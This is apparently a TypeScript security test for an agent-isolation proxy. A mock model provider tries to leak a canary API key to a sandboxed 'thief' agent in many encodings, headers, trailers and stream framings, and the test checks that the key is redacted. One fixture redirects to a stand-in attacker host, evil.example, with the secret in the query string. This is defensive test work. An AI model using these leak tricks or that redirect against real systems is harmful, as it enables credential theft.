/** A provider that sends the credential back in every way it can think of; the agent keeps all that reaches it. */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import { gzipSync } from "node:zlib";
import { attackerPrelude, eventually, printed, startMesh, type MeshFixture } from "../../fleet/running-mesh.ts";

const secret = `sk-canary"${randomBytes(18).toString("base64url")}&<`;

type Trick = (secret: string, response: ServerResponse) => void;

const chunk = (content: string): string =>
  `data: ${JSON.stringify({ id: "x", object: "chat.completion.chunk", choices: [{ index: 0, delta: { content }, finish_reason: null }] })}\n\n`;
const last = `data: ${JSON.stringify({ id: "x", choices: [{ index: 0, delta: {}, finish_reason: "stop" }] })}\n\ndata: ${JSON.stringify({ id: "x", choices: [], usage: { prompt_tokens: 5, completion_tokens: 5 } })}\n\ndata: [DONE]\n\n`;
const plain = (content: string): string =>
  JSON.stringify({
    id: "x",
    choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }],
    usage: { prompt_tokens: 5, completion_tokens: 5 },
  });
const inJson =
  (text: string): Trick =>
  (_s, response) =>
    response.writeHead(200, { "content-type": "application/json" }).end(plain(text));
const inStream =
  (pieces: readonly string[]): Trick =>
  (_s, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    for (const piece of pieces) response.write(chunk(piece));
    response.end(last);
  };
const html = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");

const forms: Readonly<Record<string, string>> = {
  plain: secret,
  base64: Buffer.from(secret).toString("base64"),
  base64url: Buffer.from(secret).toString("base64url"),
  "base64 behind one byte": Buffer.from(`:${secret}`).toString("base64"),
  "base64 behind two bytes": Buffer.from(`u:${secret}`).toString("base64"),
  hex: Buffer.from(secret).toString("hex"),
  "hex in capitals": Buffer.from(secret).toString("hex").toUpperCase(),
  "percent-encoded": encodeURIComponent(secret),
  "JSON-escaped": JSON.stringify(secret),
  "HTML-escaped": html(secret),
  reversed: [...secret].reverse().join(""),
};

/** Name → what the provider does; the agent calls each as a stream or not, as the name says. */
const tricks: Record<string, Trick> = {};
for (const [name, form] of Object.entries(forms)) {
  tricks[`plain answer, ${name}`] = inJson(form);
  tricks[`stream, ${name}`] = inStream(["key: ", form, " ok"]);
  tricks[`stream, ${name}, letter by letter`] = inStream([...form]);
}
/** One event at a time on the wire, so that each could be passed on before the next is seen. */
tricks["stream, letter by letter, slowly"] = (_s, response) => {
  response.writeHead(200, { "content-type": "text/event-stream" });
  const letters = [...secret];
  const timer = setInterval(() => {
    const letter = letters.shift();
    if (letter !== undefined) return void response.write(chunk(letter));
    clearInterval(timer);
    response.end(last);
  }, 4);
};
tricks["plain answer, error body"] = (_s, response) =>
  response
    .writeHead(400, { "content-type": "application/json" })
    .end(JSON.stringify({ error: { message: `bad key ${secret}` } }));
tricks["plain answer, 401 body"] = (_s, response) =>
  response
    .writeHead(401, { "content-type": "application/json" })
    .end(JSON.stringify({ error: { message: `incorrect API key ${secret.slice(0, 12)}` } }));
tricks["plain answer, header"] = (_s, response) =>
  response
    .writeHead(200, { "content-type": "application/json", "x-request-id": secret, "x-echo": secret })
    .end(plain("hi"));
tricks["plain answer, redirect"] = (_s, response) =>
  response.writeHead(302, { location: `http://evil.example/?k=${encodeURIComponent(secret)}` }).end(secret);
tricks["plain answer, gzip"] = (_s, response) =>
  response
    .writeHead(200, { "content-type": "application/json", "content-encoding": "gzip" })
    .end(gzipSync(plain(secret)));
tricks["stream, comment and event name"] = (_s, response) => {
  response.writeHead(200, { "content-type": "text/event-stream" });
  response.write(`: ${secret}\n\nevent: ${secret}\n${chunk("x")}`);
  response.end(last);
};
tricks["stream, across network chunks"] = (_s, response) => {
  response.writeHead(200, { "content-type": "text/event-stream" });
  const bytes = `: ${secret}\n\n${chunk("x")}${last}`;
  let at = 0;
  const timer = setInterval(() => {
    if (at >= bytes.length) {
      clearInterval(timer);
      response.end();
    } else response.write(bytes.slice(at, (at += 7)));
  }, 1);
};
tricks["stream, broken off inside the secret"] = (_s, response) => {
  response.writeHead(200, { "content-type": "text/event-stream" });
  response.write(`${chunk("x")}: ${secret.slice(0, -1)}`);
  setTimeout(() => response.destroy(), 20);
};
tricks["plain answer, trailer"] = (_s, response) => {
  response.writeHead(200, { "content-type": "application/json", trailer: "x-key" });
  response.write(plain("hi"));
  response.addTrailers({ "x-key": secret });
  response.end();
};

const names = Object.keys(tricks);

const attacker = `
import { ask, tell } from "./prelude.mjs";
const names = ${JSON.stringify(names)};
for (const [index, name] of names.entries()) {
  const answer = await ask("POST", "/openai/v1/chat/completions", { model: "mirror/m", stream: name.startsWith("stream"), max_tokens: 400, messages: [{ role: "user", content: "trick " + index }] });
  // Base64, so that the log's own escaping changes nothing.
  tell("got", { name, status: answer.status, seen: Buffer.from(JSON.stringify(answer.headers ?? {}) + answer.text).toString("base64") });
}
tell("end", {});
setInterval(() => {}, 1e6);
`;

let used = 0;
let provider: Server;
let mesh: MeshFixture;

before(async () => {
  provider = createServer((request, response) => void serve(request, response));
  await new Promise<void>((resolve) => provider.listen(0, "127.0.0.1", resolve));
  const { port } = provider.address() as AddressInfo;
  mesh = await startMesh({
    "cordon.yaml": `
version: 1
fleet: mirror
providers: { mirror: { api: openai, base_url: "http://127.0.0.1:${port}/v1", credential: mirror, price: { input: 1, output: 1 } } }
agents:
  thief: { model: mirror/m, command: [/bin/node, /code/attack.mjs], code: code }
`,
    "code/prelude.mjs": attackerPrelude,
    "code/attack.mjs": attacker,
  });
  await mesh.desk.addCredential("mirror", Buffer.from(secret));
  await mesh.restart("thief");
});

after(async () => {
  await mesh.stop();
  provider.closeAllConnections();
  provider.close();
});

async function serve(request: IncomingMessage, response: ServerResponse): Promise<void> {
  let body = "";
  for await (const piece of request as AsyncIterable<Buffer>) body += piece.toString();
  const key = (request.headers.authorization ?? "").slice("Bearer ".length);
  if (key === secret) used++;
  const index = Number(/trick (\d+)/.exec(body)?.[1]);
  tricks[names[index] ?? ""]?.(key, response);
}

/** The longest piece of any form of the secret that `text` holds, beyond the prefix that all keys share. */
function longestPiece(text: string): { readonly form: string; readonly length: number } {
  let best = { form: "none", length: 0 };
  for (const [form, value] of Object.entries(forms)) {
    for (let from = 0; from < value.length; from++) {
      while (from + best.length < value.length && text.includes(value.slice(from, from + best.length + 1))) {
        best = { form: `${form}: ${value.slice(from, from + best.length + 1)}`, length: best.length + 1 };
      }
    }
  }
  return best;
}

test("no trick brings the credential to the agent", async () => {
  await eventually("the end", async () => (await printed(mesh, "thief", "end")).at(-1), 60_000);
  const got = (await printed(mesh, "thief", "got")).slice(-names.length);
  assert.equal(got.length, names.length);
  assert.ok(used >= names.length, `the credential was really sent ${used} times`);
  for (const { name, seen } of got) {
    const text = Buffer.from(String(seen), "base64").toString("utf8");
    // In a stream the pieces stand apart in the framing: they are joined, as a client would.
    const joined = [...text.matchAll(/"content":"((?:[^"\\]|\\.)*)"/g)]
      .map((match) => JSON.parse(`"${match[1]}"`) as string)
      .join("");
    for (const view of [text, joined]) {
      const piece = longestPiece(view);
      assert.ok(piece.length <= 11, `${String(name)}: ${piece.length} characters came through (${piece.form})`);
    }
  }
});

test("an honest answer comes through whole", async () => {
  const got = (await printed(mesh, "thief", "got")).slice(-names.length);
  const header = got.find((each) => each["name"] === "plain answer, header");
  assert.equal(header?.["status"], 200);
  assert.match(Buffer.from(String(header["seen"]), "base64").toString(), /"content":"hi"/);
});
